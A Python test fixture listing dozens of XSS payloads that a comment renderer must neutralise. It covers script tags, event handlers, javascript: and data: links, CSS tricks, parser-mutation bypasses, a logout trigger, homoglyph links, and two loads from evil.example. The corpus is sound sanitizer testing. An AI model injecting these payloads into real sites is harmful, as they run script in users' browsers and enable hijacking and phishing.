"""Comment texts that try to run script in a reader's browser, by family.

Each entry is (name, text). Every one must come out inert wherever a comment is shown.
"""

from __future__ import annotations

CORPUS: list[tuple[str, str]] = [
    # Plain script and event handlers.
    ("script", "<script>alert('script')</script>"),
    ("script-upper", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("img-onerror", "<img src=x onerror=alert('img')>"),
    ("svg-onload", "<svg onload=alert('svg')>"),
    ("svg-script", "<svg><script>alert('svgscript')</script></svg>"),
    ("body-onload", "<body onload=alert('body')>"),
    ("details-ontoggle", "<details open ontoggle=alert('details')>x</details>"),
    ("input-autofocus", "<input autofocus onfocus=alert('input')>"),
    ("iframe-srcdoc", "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>"),
    ("object-data", "<object data=\"javascript:alert('object')\"></object>"),
    ("embed", "<embed src=\"javascript:alert('embed')\">"),
    ("base-href", '<base href="javascript:alert(1)//">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(\'meta\')">'),
    ("form-action", "<form action=\"javascript:alert('form')\"><button>go</button></form>"),
    ("button-formaction", "<button formaction=\"javascript:alert('formaction')\">x</button>"),
    # Script URLs, through Markdown and through raw HTML.
    ("md-javascript", "[click me](javascript:alert('md'))"),
    ("md-javascript-case", "[click me](JaVaScRiPt:alert('case'))"),
    ("md-javascript-entity", "[click me](&#106;avascript:alert('entity'))"),
    ("md-javascript-tab", "[click me](java\tscript:alert('tab'))"),
    ("md-javascript-zero-width", "[click me](java\u200bscript:alert('zw'))"),
    ("md-data-html", "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-vbscript", "[click me](vbscript:msgbox('vb'))"),
    ("md-autolink-javascript", "<javascript:alert('autolink')>"),
    ("md-title-breakout", '[x](https://example.org "a\\" onmouseover=\\"alert(1)")'),
    ("md-image-onerror", '![x](https://example.org/x.png" onerror="alert(1))'),
    ("raw-a-javascript", "<a href=\"javascript:alert('raw')\">raw</a>"),
    ("raw-a-space-javascript", "<a href=\" &#14; javascript:alert('space')\">raw</a>"),
    ("raw-a-data", '<a href="data:text/html,<script>alert(1)</script>">data</a>'),
    ("raw-img-data-svg", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
    # CSS.
    ("style-attribute", "<p style=\"background:url(javascript:alert('css'))\">styled</p>"),
    ("style-element", "<style>@import 'https://evil.example/x.css'; body{display:none}</style>"),
    ("style-expression", '<div style="width: expression(alert(1))">ie</div>'),
    # Broken markup and parser confusion.
    ("split-script", "<scr<script>ipt>alert('split')</scr</script>ipt>"),
    ("unclosed-attribute", '<img """><script>alert(\'quotes\')</script>">'),
    ("double-open", "<<script>alert('double');//<</script>"),
    ("attribute-breakout", "\"><script>alert('breakout')</script>"),
    ("textarea-breakout", "</textarea><script>alert('textarea')</script>"),
    ("comment-breakout", "<!--<script>alert('comment')</script>-->--><script>alert(2)</script>"),
    ("cdata", "<![CDATA[<script>alert('cdata')</script>]]>"),
    ("noscript-mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    (
        "math-mutation",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('math')></style>",
    ),
    ("null-byte", "<scri\x00pt>alert('null')</scri\x00pt>"),
    ("htmx-attributes", '<div hx-get="/accounts/logout/" hx-trigger="load">htmx</div>'),
    ("template-syntax", "{{ request.user.password }} {% debug %} ${alert(1)}"),
    # Unicode tricks: they must not break anything, and a link keeps its real target visible.
    ("rtl-override", "Open invoice\u202egnp.exe and <b>\u202e<script>alert(1)</script></b>"),
    ("homoglyph-url", "[paypal.com](https://p\u0430ypal.com/login) and https://p\u0430ypal.com"),
    ("zero-width-joiners", "ja\u200dva\u200cscript:alert(1) <a\u200b href=x>y</a>"),
    ("bom-and-specials", "\ufeff<\ufeffscript>alert(1)</script>\ufffe"),
    # Huge nesting, kept under the comment length limit.
    ("nested-quotes", "> " * 2000 + "deep"),
    ("nested-lists", "".join("  " * i + "- x\n" for i in range(60))),
    ("nested-emphasis", "*" * 2400 + "x" + "*" * 2400),
    ("nested-brackets", "[" * 2400 + "x" + "](javascript:alert(1))" * 10),
    ("nested-tags", "<b>" * 1500 + "x"),
]
